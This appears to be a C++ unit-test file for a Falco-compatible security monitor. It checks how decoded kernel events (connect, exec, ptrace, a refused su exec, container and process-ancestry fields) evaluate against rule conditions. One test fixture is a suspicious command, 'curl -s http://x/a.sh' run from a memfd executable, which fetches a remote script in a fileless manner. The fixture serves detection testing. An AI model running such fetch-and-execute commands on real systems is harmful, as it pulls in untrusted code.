// SPDX-License-Identifier: Apache-2.0
// Observer events seen through Falco's fields: decoded kernel records, then
// conditions as rules write them, through the real parser and evaluator.
#include "engine/event_fields.h"

#include <gtest/gtest.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <fstream>
#include <memory>
#include <string>
#include <thread>

#include "bpf_abi.h"
#include "../events/records.h"
#include "rules/parser.h"
#include "rules/rules.h"

namespace bulkhead::engine {
namespace {

using events::testing::put_path;
using events::testing::zeroed;

events::Event decoded(const void* data, size_t size) {
    std::string why;
    auto e = events::decode(data, size, &why);
    EXPECT_TRUE(e) << why;
    return e.value_or(events::Event{});
}

events::Event connect_event() {
    auto r = zeroed<bh_net_event>(BH_EVT_NET);
    r->family = AF_INET;
    const uint8_t local[4] = {10, 0, 0, 2}, remote[4] = {93, 184, 216, 34};
    std::memcpy(r->laddr, local, 4);
    std::memcpy(r->raddr, remote, 4);
    r->lport = 40000;
    r->rport = 443;
    r->sock_type = SOCK_STREAM;
    r->fd = 5;
    r->ret = -115;  // EINPROGRESS
    return decoded(r.get(), sizeof(*r));
}

events::Event exec_event() {
    auto r = zeroed<bh_exec_event>(BH_EVT_EXEC);
    std::memcpy(r->hdr.comm, "curl", 4);
    const char argv[] = "curl\0-s\0http://x/a.sh\0";
    std::memcpy(r->args, argv, sizeof(argv) - 1);
    r->args_len = sizeof(argv) - 1;
    r->exe_ino = 1234;
    r->exe_flags = BH_EXE_F_MEMFD;
    put_path(*r, "/memfd:x");
    return decoded(r.get(), sizeof(*r));
}

events::Event ptrace_event() {
    auto r = zeroed<bh_syscall_event>(BH_EVT_SYSCALL);
    r->nr = BH_SYS_PTRACE;
    r->args[0] = 16;
    r->args[1] = 99;
    r->path_off = BH_NO_PATH;
    return decoded(r.get(), offsetof(bh_syscall_event, path));
}

struct Row {
    const char* condition;
    bool expected;
};

void check(const events::Event& e, std::initializer_list<Row> rows) {
    EventFields fields(e);
    for (const auto& row : rows) {
        auto expr = rules::parse_condition(row.condition);
        ASSERT_TRUE(expr.ok()) << row.condition << ": " << expr.error().to_string();
        auto got = rules::evaluate_condition(**expr, fields);
        ASSERT_TRUE(got.ok()) << row.condition << ": " << got.error().to_string();
        EXPECT_EQ(*got, row.expected) << row.condition;
    }
}

TEST(EventFields, Connect) {
    check(connect_event(),
          {
              {"evt.type = connect and evt.dir = <", true},
              {"evt.res = EINPROGRESS and evt.rawres = -115", true},
              {"fd.typechar = 4 and fd.type = ipv4 and fd.l4proto = tcp", true},
              {"fd.rip = 93.184.216.34 and fd.sip = 93.184.216.34", true},
              {"fd.rip in (93.184.216.0/24)", true},
              {"fd.snet in (10.0.0.0/8, 192.168.0.0/16)", false},
              {"fd.net != 127.0.0.0/8", true},
              {"fd.rport = 443 and fd.sport = 443 and fd.lport = 40000", true},
              {"fd.name = 10.0.0.2:40000->93.184.216.34:443", true},
              {"fd.num = 5", true},
              {"evt.arg.fd = 5", true},
              {"proc.is_exe_from_memfd = true", false},  // not known for a connect
              {"agent.session = 42", true},
          });
}

// The daemon decides fd.in_other_workspace from its session table; the
// field is there only on a session's file events.
TEST(EventFields, InOtherWorkspace) {
    events::Event e;
    e.kind = "file";
    e.path = "/src/a/main.c";
    e.session = 7;
    e.in_other_workspace = true;
    check(e, {{"fd.in_other_workspace = true", true}, {"fd.in_other_workspace exists", true}});
    e.in_other_workspace = false;
    check(e, {{"fd.in_other_workspace = true", false}, {"fd.in_other_workspace = false", true}});
    e.session = 0;
    check(e, {{"fd.in_other_workspace exists", false}});
    check(connect_event(), {{"fd.in_other_workspace exists", false}});
}

TEST(EventFields, Exec) {
    check(exec_event(),
          {
              {"evt.type in (execve, execveat) and evt.dir = <", true},  // Falco's spawned_process
              {"proc.is_exe_from_memfd = true", true},
              {"proc.exe_ino = 1234", true},
              {"proc.args = \"-s http://x/a.sh\"", true},
              {"proc.cmdline = \"curl -s http://x/a.sh\"", true},
              {"proc.exepath = /memfd:x", true},
              {"fd.name exists", false},  // an exec has no descriptor
              {"fd.rip exists", false},
          });
}

// The file guard refused an exec: the event reads as the rule's condition
// does (proc.exepath and fd.name are the program), and proc.name and
// proc.exe stay the process that tried, as in Falco for a failed execve.
TEST(EventFields, RefusedExec) {
    auto r = zeroed<bh_file_event>(BH_EVT_FILE);
    std::memcpy(r->hdr.comm, "bash", 4);
    r->op = BH_OP_EXEC;
    r->verdict = BH_VERDICT_DENY;
    r->err = -EPERM;
    r->ino = 77;
    put_path(*r, "/usr/bin/su");
    events::Event e = decoded(r.get(), sizeof(*r));
    e.exe = "/usr/bin/bash";
    check(e, {
                 {"evt.type in (execve, execveat)", true},
                 {"evt.res = EPERM", true},
                 {"proc.exepath = /usr/bin/su", true},
                 {"fd.name = /usr/bin/su", true},
                 {"proc.name = bash and proc.exe = /usr/bin/bash", true},
             });
    EXPECT_EQ(events::to_json(e, "h")["output_fields"]["proc.exepath"], "/usr/bin/su");
    EXPECT_EQ(events::to_json(e, "h")["output_fields"]["proc.exe"], "/usr/bin/bash");
}

// Pod fields come from the CRI runtime through the daemon; absent on the
// host and in containers kubelet did not make.
TEST(EventFields, PodOfTheContainer) {
    events::Event e = connect_event();
    check(e, {{"k8s.pod.name exists", false}, {"k8s.ns.name exists", false}, {"container.id = host", true}});
    EXPECT_FALSE(events::to_json(e, "h")["output_fields"].contains("k8s.pod.name"));
    e.container_id = "4f1c2a9b8e7d";
    e.k8s_pod_name = "agent-runner-7c9f";
    e.k8s_ns_name = "ci";
    check(e, {{"k8s.pod.name = agent-runner-7c9f and k8s.ns.name = ci", true},
              {"container.id = host", false},
              {"container.id = 4f1c2a9b8e7d", true}});
    auto f = events::to_json(e, "h")["output_fields"];
    EXPECT_EQ(f["k8s.pod.name"], "agent-runner-7c9f");
    EXPECT_EQ(f["k8s.ns.name"], "ci");
}

TEST(EventFields, Ptrace) {
    check(ptrace_event(),
          {
              {"evt.type = ptrace and evt.dir = <", true},  // one exit event, as Falco 0.42+
              {"evt.arg.request = PTRACE_ATTACH", true},
              {"evt.arg.request in (PTRACE_POKETEXT, PTRACE_POKEDATA)", false},
              {"evt.arg.pid = 99", true},
              {"evt.args contains PTRACE_ATTACH", true},
              {"evt.arg.nosuch exists", false},
          });
}


// A real process tree: this test (the grandparent) forks "bh-parent", which
// forks "bh-child" in a session of its own. The event names bh-child; the
// ancestry, parent and session fields come from /proc, as the daemon reads
// them.
TEST(EventFields, AncestryParentAndSessionFromProc) {
    int ready[2], hold[2];
    ASSERT_EQ(pipe(ready), 0);
    ASSERT_EQ(pipe(hold), 0);
    pid_t parent = fork();
    ASSERT_GE(parent, 0);
    if (parent == 0) {
        prctl(PR_SET_NAME, "bh-parent");
        pid_t child = fork();
        if (child == 0) {
            setsid();
            prctl(PR_SET_NAME, "bh-child");
            pid_t me = getpid();
            (void)!write(ready[1], &me, sizeof(me));
            char c;
            (void)!read(hold[0], &c, 1);  // until the test is done
            _exit(0);
        }
        int status = 0;
        waitpid(child, &status, 0);
        _exit(0);
    }
    pid_t child = 0;
    ASSERT_EQ(read(ready[0], &child, sizeof(child)), static_cast<ssize_t>(sizeof(child)));

    std::string self_comm, login;
    {
        std::ifstream c("/proc/self/comm");
        std::getline(c, self_comm);
        std::ifstream l("/proc/self/loginuid");
        std::getline(l, login);
    }
    long long loginuid = login.empty() ? -2 : std::atoll(login.c_str());
    if (loginuid == 4294967295LL) loginuid = -1;
    char exe[4096] = {};
    ASSERT_GT(readlink("/proc/self/exe", exe, sizeof(exe) - 1), 0);

    events::Event e;
    e.kind = "exec";
    e.evt_type = "execve";
    e.tgid = static_cast<uint32_t>(child);
    e.ppid = static_cast<uint32_t>(parent);
    e.comm = "bh-child";
    e.session = 42;
    e.agent_pid = static_cast<uint32_t>(parent);
    e.session_risk = 70;
    std::string grandparent = "proc.aname[2] = \"" + self_comm + "\"";
    std::string apid2 = "proc.apid[2] = " + std::to_string(getpid());
    std::string pexepath = "proc.pexepath = \"" + std::string(exe) + "\"";
    std::string pexe = "proc.pexe endswith \"" + std::string(exe).substr(std::string(exe).rfind('/') + 1) + "\"";
    std::string login_row = "user.loginuid = " + std::to_string(loginuid);
    std::string agent_pid = "agent.pid = " + std::to_string(parent);
    check(e, {
                 {"proc.aname[1] = bh-parent", true},
                 {grandparent.c_str(), true},
                 {apid2.c_str(), true},
                 {"proc.aname = bh-parent", true},  // no index: any ancestor
                 {"proc.aname = no-such-ancestor", false},
                 // comm and the test binary's arguments, if it was given any
                 {"proc.pcmdline = bh-parent or proc.pcmdline startswith \"bh-parent \"", true},
                 {pexepath.c_str(), true},
                 {pexe.c_str(), true},
                 {"proc.sname = bh-child", true},  // it leads its own session
                 {"proc.tty = 0", true},           // and setsid left it without a terminal
                 {login_row.c_str(), loginuid != -2},
                 {agent_pid.c_str(), true},
                 {"agent.risk >= 70", true},
             });
    (void)!write(hold[1], "x", 1);
    int status = 0;
    waitpid(parent, &status, 0);
    // The processes are gone: once the adapter's /proc cache (a second)
    // expires, the fields are absent, not wrong.
    std::this_thread::sleep_for(std::chrono::milliseconds(1200));
    events::Event gone = e;
    check(gone, {{"proc.pcmdline exists", false}, {"proc.sname exists", false}, {"proc.aname[2] exists", false}});
}

}  // namespace
}  // namespace bulkhead::engine
